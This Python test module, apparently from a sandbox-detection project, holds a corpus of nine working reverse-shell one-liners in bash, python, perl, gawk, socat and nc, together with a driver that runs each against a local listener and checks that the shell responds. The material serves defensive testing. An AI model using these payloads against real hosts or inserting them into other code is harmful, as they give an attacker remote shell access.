"""The attack corpus: reverse shells of six families and more, each against a listener
that the driver opens on 127.0.0.1 INSIDE the sandbox (its own network namespace, policy
``none``: nothing leaves it), and blocked programs run from inside allowed ones.

The driver (run in the sandbox) listens, starts the payload with ``PORT`` replaced,
accepts the shell's connection, sends commands and says whether the shell answered: the
attack really works, so a detection is not a test of a broken payload.
"""

from __future__ import annotations

# Each payload an argv; PORT is replaced by the driver's listening port.
REVERSE_SHELLS: dict[str, list[str]] = {
    "bash /dev/tcp": ["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"],
    "bash /dev/tcp fd": [
        "bash", "-c",
        'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read l; do eval "$l" 2>&5 >&5; done',
    ],
    "python pty": [
        "python3", "-c",
        "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
    ],
    "python subprocess": [
        "python3", "-c",
        "import socket,subprocess;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
    ],
    "perl": [
        "perl", "-e",
        'use Socket;$i="127.0.0.1";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};',
    ],
    "awk /inet": [
        "gawk",
        'BEGIN { s = "/inet/tcp/0/127.0.0.1/PORT"; while (42) { do { printf "> " |& s; s |& getline c;'
        ' if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'
        ' while (c != "exit"); close(s); exit } }',
    ],
    "socat": ["socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh"],
    "socat pty": ["socat", "TCP:127.0.0.1:PORT", "EXEC:sh -i,pty,stderr,setsid"],
    "mkfifo + nc": [
        "sh", "-c", "mkfifo /tmp/fPORT; cat /tmp/fPORT | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > /tmp/fPORT",
    ],
}  # fmt: skip

# Sent to the shell; the answer holds 42 only if a shell evaluated the arithmetic.
PROBE = b"id\necho K2MARK-$((6*7))\n"
ANSWER = b"K2MARK-42"

DRIVER = """\
import json
import os
import signal
import socket
import subprocess
import sys
import time

argv = json.load(open(sys.argv[1]))
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
srv.settimeout(10)
port = srv.getsockname()[1]
p = subprocess.Popen([a.replace("PORT", str(port)) for a in argv], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
data = b""
try:
    conn, _ = srv.accept()
    conn.settimeout(1)
    time.sleep(0.5)
    conn.sendall(__PROBE__)
    deadline = time.monotonic() + 10
    while __ANSWER__ not in data and time.monotonic() < deadline:
        try:
            chunk = conn.recv(4096)
        except socket.timeout:
            continue
        if not chunk:
            break
        data += chunk
    conn.sendall(b"exit\\n")
    time.sleep(0.3)
finally:
    os.killpg(p.pid, signal.SIGKILL)
print("ANSWERED" if __ANSWER__ in data else "NOANSWER", repr(data[-300:]))
""".replace("__PROBE__", repr(PROBE)).replace("__ANSWER__", repr(ANSWER))
